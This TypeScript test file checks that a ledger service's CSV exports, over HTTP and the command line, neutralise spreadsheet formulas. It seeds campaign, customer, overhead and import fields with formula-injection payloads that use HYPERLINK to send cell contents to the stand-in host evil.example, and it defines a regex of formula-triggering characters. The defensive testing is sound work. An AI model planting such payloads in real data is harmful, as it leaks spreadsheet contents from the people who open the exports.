import { execFile } from 'node:child_process'
import { promisify } from 'node:util'
import { views } from '@ledger/ledger'
import { parse } from 'csv-parse/sync'
import { manifest } from '../generate/files.js'
import type { Client } from '../service/client.js'
import { teller } from '../service/content.js'
import type { House } from '../service/house.js'
import type { Finding } from './finding.js'

const CHECK = 'CSV carries no formulas'

/** Beginnings by which a spreadsheet takes a cell for a formula; the last four are the wide forms of East Asia. */
const beginnings = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const attacks = beginnings.map((one) => `${one}HYPERLINK("http://evil.example?"&A1,"x")`)
const DANGEROUS = new RegExp(`^[${beginnings.map((one) => (one === '-' ? '\\-' : one)).join('')}]`)

/** Writes what would be formulas wherever the ledger takes a text, so that exports have something to carry. */
export async function writeFormulas(client: Client, token: string): Promise<void> {
  const tell = teller(client, token)
  for (const [n, attack] of attacks.entries()) {
    await tell(`/v1/campaigns/evil-${n}/draft`, { plan: { ...evil, name: attack, region: attack, place: attack } })
    await tell(`/v1/customers/evil-${n}/describe`, {
      attributes: { [`=attack${n}`]: attack, city: attack },
      source: attack.trim(),
    })
    const charge = { overhead: `evil-${n}`, purpose: attack, document: attack, amount: 1, currency: 'EUR' }
    await tell('/v1/overheads/2027-03/record', charge)
  }
}

const evil = {
  kind: 'evil',
  purposes: [],
  period: { from: '2027-03-01', to: '2027-03-03', zone: 'UTC' },
  owner: 'pat',
  currency: 'EUR',
  targetGroups: [],
  budget: [],
  targets: [],
  milestones: [],
}

/** What the addresses need to be asked for with. */
const queries: Readonly<Record<string, string>> = {
  listPeopleOfFunnel: '?stages=invited,accepted&stage=invited',
  getFunnel: '?by=wave',
  getValuePyramid: '?value=profit&currency=EUR&asOf=2027-06-01',
  listCustomersOfPyramid: '?value=profit&currency=EUR&asOf=2027-06-01',
  getChurnByTier: '?currency=EUR&from=2027-01&to=2027-06',
  listCustomersOfChurn: '?currency=EUR&value=profit&asOf=2027-06-01',
  whatIfValuePyramid: '?cuts=rank:0.1,0.4,0.8&value=profit&currency=EUR&asOf=2027-06-01',
  whatIfChurnByTier: '?days=30;365&currency=EUR&asOf=2027-06-01',
  whatIfFunnel: '?stages=invited,accepted',
  whatIfOverheads: '?key=equal',
  diffMoments: '?subject=campaign/fair&from=1',
}

/** Takes every table away as CSV over HTTP and looks at each cell. */
export async function formulasOverHttp({ service, client, description }: House): Promise<readonly Finding[]> {
  const findings: Finding[] = []
  const places: Readonly<Record<string, string>> = {
    campaign: 'fair',
    month: '2027-03',
    ...(await refusedPlaces(client, service.admin)),
  }
  let negative = 0
  for (const { id, path } of description.operations.filter((one) => one.exports)) {
    const target = path.replaceAll(/\{(\w+)\}/g, (_, name: string) => places[name] ?? name) + (queries[id] ?? '')
    const headers = [
      ['Authorization', `Bearer ${service.admin}`],
      ['Accept', 'text/csv'],
    ] as const
    const { status, text } = await client.send({ method: 'GET', target, headers })
    if (status !== 200) findings.push({ check: CHECK, what: `${target} was not exported: ${status} ${text}` })
    const cells = status === 200 ? cellsOf(text) : []
    negative += cells.filter((cell) => /^-\d+$/.test(cell)).length
    findings.push(...looked(cells, target))
    if (id === 'listCampaigns' || id === 'getImportRejects') findings.push(...kept(cells, target))
  }
  // Some of these customers brought a loss: what is less than nothing stays a number.
  if (negative === 0) findings.push({ check: CHECK, what: 'negative amounts are no numbers any more' })
  return findings
}

/** Bulk work and an import of which much was refused: attacks are no ids. */
async function refusedPlaces(client: Client, token: string): Promise<Record<string, string>> {
  const post = async <T>(target: string, type: string, body: string): Promise<T> => {
    const headers = [
      ['Authorization', `Bearer ${token}`],
      ['Content-Type', type],
      ['Prefer', 'wait=30'],
    ] as const
    const { text } = await client.send({ method: 'POST', target, headers, body: Buffer.from(body) })
    return JSON.parse(text) as T
  }
  const bought = { purchase: 'evil', day: '2027-03-01', zone: 'UTC', currency: 'EUR' }
  const purchases = [1, 2].map((revenue) => ({ customer: 'evil-0', ...bought, revenue }))
  const { work } = await post<{ work: string }>('/v1/purchases', 'application/json', JSON.stringify({ purchases }))
  const rows = attacks.map((attack, n) => `${n},"${attack.replaceAll('"', '""')}",2027-03-01,1`)
  const file = ['receipt,id,day,paid', ...rows].join('\n')
  const sent = await post<{ import: string }>('/v1/imports?name=evil.csv', 'text/csv', file)
  await post(`/v1/imports/${sent.import}/check`, 'application/json', JSON.stringify(manifest))
  return { work, import: sent.import }
}

/** The same over the command line, which writes the documents of the views as they are kept. */
export async function formulasOverCommandLine(dataDir: string): Promise<readonly Finding[]> {
  const findings: Finding[] = []
  for (const { name } of views) {
    const args = ['dist/apps/cli/src/main.js', '--data-dir', dataDir, 'export', name]
    const { stdout } = await promisify(execFile)(process.execPath, args, { maxBuffer: 2 ** 28 })
    const cells = cellsOf(stdout)
    findings.push(...looked(cells, `export ${name}`))
    if (name === 'campaigns' || name === 'customers') findings.push(...kept(cells, `export ${name}`))
  }
  return findings
}

const cellsOf = (text: string): readonly string[] => (parse(text, { relax_column_count: true }) as string[][]).flat()

const isNumber = (cell: string): boolean => /^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)

const looked = (cells: readonly string[], where: string): readonly Finding[] =>
  cells
    .filter((cell) => DANGEROUS.test(cell) && !isNumber(cell))
    .map((cell) => ({ check: CHECK, what: `${where}: ${JSON.stringify(cell)}` }))

/** The attacks themselves are still there to be read, behind an apostrophe. */
const kept = (cells: readonly string[], where: string): readonly Finding[] =>
  attacks
    .filter((attack) => !cells.includes(`'${attack}`))
    .map((attack) => ({ check: CHECK, what: `${where} lost ${JSON.stringify(attack)}` }))
